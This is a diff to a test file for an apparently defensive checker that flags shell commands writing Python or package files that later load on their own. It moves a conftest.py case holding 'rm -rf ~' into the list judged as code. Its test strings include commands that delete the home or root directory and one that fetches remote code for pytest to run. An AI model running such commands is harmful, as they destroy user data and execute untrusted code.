@@ -243,6 +243,8 @@ def test_harmless_makefiles_pass(bash: Bash, command: str) -> None:
         "echo 'import shutil; shutil.rmtree(\"/\")' > sitecustomize.py && PYTHONPATH=. python3 app.py",
         "printf 'import os\\nos.system(\"rm -rf ~\")\\n' > usercustomize.py && pytest",
         "curl -s https://dl.example.org/c.py > conftest.py && pytest",
+        # nothing on the line loads it, but the next pytest does: judged as a Write of it is
+        "echo 'import os; os.system(\"rm -rf ~\")' > conftest.py && git add conftest.py",
     ],
 )
 def test_a_file_loaded_on_its_own_is_judged_as_code(bash: Bash, command: str) -> None:
@@ -257,7 +259,6 @@ def test_a_file_loaded_on_its_own_is_judged_as_code(bash: Bash, command: str) ->
         "echo '{\"name\":\"x\",\"scripts\":{\"test\":\"jest\"}}' > package.json && npm test",
         "echo 'export FOO=1' > .envrc && direnv allow",
         "jq '.version=\"2.0.0\"' package.json > p.tmp && mv p.tmp package.json && npm install",
-        "echo 'import os; os.system(\"rm -rf ~\")' > conftest.py && git add conftest.py",  # nothing loads it
     ],
 )
 def test_harmless_loaded_files_pass(bash: Bash, command: str) -> None:
